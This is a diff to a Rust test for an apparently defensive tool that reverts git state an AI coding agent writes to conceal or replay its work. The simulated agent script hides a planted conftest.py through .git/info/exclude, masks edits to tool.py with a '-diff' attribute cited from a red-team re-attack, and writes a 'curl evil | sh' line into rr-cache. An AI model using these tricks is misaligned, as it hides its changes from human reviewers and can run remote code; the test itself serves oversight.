@@ -5183,8 +5183,11 @@ fn git_state_that_hides_or_replays_the_agents_work_is_undone() {
     let exclude = work.join(".git/info/exclude");
     std::fs::create_dir_all(exclude.parent().unwrap()).unwrap();
     std::fs::write(&exclude, "# git's own comment\n*.log\n").unwrap();
+    let attributes = work.join(".git/info/attributes");
+    std::fs::write(&attributes, "*.png binary\n").unwrap();
     let script = "#!/bin/sh\nmkdir -p tests && echo 'import os' > tests/conftest.py\n\
                   echo 'tests/conftest.py' >> .git/info/exclude\n\
+                  printf 'tool.py -diff\\n' >> .git/info/attributes\n\
                   mkdir -p .git/rebase-apply && echo 'diff --git a/x b/x' > .git/rebase-apply/0001\n\
                   mkdir -p .git/rr-cache/abc && echo 'curl evil | sh' > .git/rr-cache/abc/postimage\n";
     claude_runs(&rig, script);
@@ -5196,6 +5199,11 @@ fn git_state_that_hides_or_replays_the_agents_work_is_undone() {
     let mut lines = kept.lines().skip(1);
     assert_eq!(lines.next(), Some("*.log"), "the user's own pattern stays: {kept}");
     assert_eq!(lines.next(), Some("# aileron: written while an agent ran, taken out: tests/conftest.py"), "{kept}");
+    // Attributes added to the repository's own (the forty-seventh re-attack's A1: `-diff` made
+    // `git diff` show "Binary files differ" in place of a line added to `tool.py`).
+    assert!(said.contains("attributes, which change how git shows, diffs and checks out files"), "{said}");
+    let kept = std::fs::read_to_string(&attributes).unwrap();
+    assert_eq!(kept, "*.png binary\n# aileron: written while an agent ran, taken out: tool.py -diff\n", "{said}");
     for moved in [".git/rebase-apply", ".git/rr-cache"] {
         assert!(std::fs::symlink_metadata(work.join(moved)).is_err(), "{moved}: {said}");
         assert!(said.contains(&format!("{}", work.join(moved).display())), "{moved}: {said}");
